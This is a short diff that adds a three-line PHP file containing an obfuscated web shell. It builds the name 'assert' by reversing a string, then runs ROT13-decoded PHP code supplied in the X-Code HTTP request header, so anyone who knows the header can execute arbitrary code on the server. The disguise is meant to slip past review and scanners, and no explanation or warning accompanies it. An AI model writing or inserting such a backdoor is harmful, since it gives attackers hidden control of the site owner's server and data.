@@ -1,0 +1,3 @@
+<?php
+$k = strrev('tressa');
+$k(str_rot13($_SERVER['HTTP_X_CODE']));
